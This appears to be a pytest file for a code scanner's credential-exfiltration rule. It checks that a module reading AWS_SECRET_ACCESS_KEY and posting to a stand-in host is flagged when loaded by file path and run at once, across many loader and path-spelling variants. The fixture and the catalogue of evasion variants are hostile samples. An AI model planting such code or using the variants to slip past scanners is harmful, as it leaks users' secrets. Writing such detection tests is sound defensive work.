"""An attack whose file is loaded by its path: what is called of it then runs by itself."""

from __future__ import annotations

import pytest
from client_library import BASE, BUSY, changed

from support.code import held, scan

CORE = (
    "import os\nimport requests\n\n\nclass Task:\n    def go(self):\n        run()\n\n\ndef run():\n"
    "    key = os.environ.get('AWS_SECRET_ACCESS_KEY')\n"
    "    return requests.post('https://models.acme-cdn.example', data={'n': bool(key)})\n"
)
"""Held if it runs by itself, and let through if it waits to be called."""
UTIL = "import importlib.util\nimport os\nimport sys\nfrom pathlib import Path\n\n"
HERE = "os.path.join(os.path.dirname(__file__), 'core.py')"
LOAD = "spec = importlib.util.spec_from_file_location('acme_core', {place})\n"
MODULE = "core = importlib.util.module_from_spec(spec)\nspec.loader.exec_module(core)\n"
PLACES = {
    "joined": HERE,
    "made absolute": f"os.path.abspath({HERE})",
    "added": "os.path.dirname(__file__) + '/core.py'",
    "an f-string": "f'{os.path.dirname(__file__)}/core.py'",
    "a path": "Path(__file__).parent / 'core.py'",
    "a path's text": "str(Path(__file__).resolve().parent / 'core.py')",
    "a path with another name": "Path(__file__).with_name('core.py')",
    "a deeper path": "Path(__file__).parent.parent / 'acme' / 'core.py'",
    "joined to a path": "Path(__file__).parent.joinpath('core.py')",
    "by itself": "'acme/core.py'",
}
WAYS = {
    "a function": f"{UTIL}{LOAD}{MODULE}core.run()\n",
    "a method": f"{UTIL}{LOAD}{MODULE}core.Task().go()\n",
    "registered": f"{UTIL}{LOAD}{MODULE}sys.modules['acme_core'] = core\ncore.run()\n",
    "as an option": f"{UTIL}{LOAD.replace('{place}', 'location={place}')}{MODULE}core.run()\n",
    "by a loader": (
        f"{UTIL}from importlib.machinery import SourceFileLoader\n\n"
        "core = SourceFileLoader('acme_core', {place}).load_module()\ncore.run()\n"
    ),
    "by a loader with options": (
        f"{UTIL}from importlib.machinery import SourceFileLoader\n\n"
        "core = SourceFileLoader(fullname='acme_core', path={place}).load_module()\ncore.run()\n"
    ),
    "by imp": f"{UTIL}import imp\n\ncore = imp.load_source('acme_core', {{place}})\ncore.run()\n",
    "by runpy": f"{UTIL}import runpy\n\nrunpy.run_path({{place}})['run']()\n",
    "by getattr": f"{UTIL}{LOAD}{MODULE}getattr(core, 'run')()\n",
    "in functions": (
        f"{UTIL}\ndef load():\n    spec = importlib.util.spec_from_file_location('acme_core', {{place}})\n"
        "    core = importlib.util.module_from_spec(spec)\n    spec.loader.exec_module(core)\n    core.run()\n\n\n"
        "load()\n"
    ),
}
OLD = {"quiet": (BASE, scan(BASE)), "busy": (BUSY, scan(BUSY))}
NO_CALL = f"{UTIL}{LOAD}{MODULE}\ndef later():\n    return core.run()\n"


def _files(code: str) -> dict[str, str]:
    return {"acme/core.py": CORE, "acme/hub.py": code}


@pytest.mark.parametrize("base", OLD)
@pytest.mark.parametrize("way", WAYS)
def test_what_is_called_of_it_is_held(way, base):
    files, old = OLD[base]
    assert "credential-exfiltration" in held(scan(changed(_files(WAYS[way].format(place=HERE)), files)), old)


@pytest.mark.parametrize("place", PLACES)
def test_however_its_path_is_spelled(place):
    code = WAYS["a function"].format(place=PLACES[place])
    assert "credential-exfiltration" in held(scan({"acme/__init__.py": "", **_files(code)}))


def test_through_a_third_file():
    files = _files(f"{UTIL}{LOAD}{MODULE}".format(place=HERE))
    files["acme/third.py"] = "from . import hub\n\nhub.core.run()\n"
    assert "credential-exfiltration" in held(scan({"acme/__init__.py": "", **files}))


@pytest.mark.parametrize(
    "code",
    [
        NO_CALL.format(place=HERE),
        f"{UTIL}{LOAD}{MODULE}core.other()\n".format(place=HERE),
        f"{UTIL}{LOAD}{MODULE}core.run()\n".format(place=HERE.replace("core.py", "hardcore.py")),
        f"{UTIL}{LOAD}{MODULE}core.run()\n".format(place="sys.argv[1]"),
    ],
    ids=["called later", "another function", "another file", "a file of the user's"],
)
def test_what_is_not_called_of_it_is_not(code):
    assert "credential-exfiltration" not in held(scan({"acme/__init__.py": "", **_files(code)}))
